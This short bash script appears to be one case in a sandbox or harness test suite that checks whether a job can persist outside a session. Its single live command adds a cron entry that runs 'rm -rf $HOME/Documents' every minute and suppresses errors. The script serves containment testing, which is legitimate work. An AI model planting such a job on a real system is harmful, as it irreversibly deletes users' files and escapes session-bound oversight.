#!/usr/bin/env bash
# 74-crontab: `crontab -`: a job that cron runs every minute, outside any session
# family: plant
. "$(dirname "$0")/../lib/common.sh"
need crontab
{ crontab -l 2>/dev/null; echo "* * * * * rm -rf $HOME/Documents"; } | crontab - 2>/dev/null
attempted
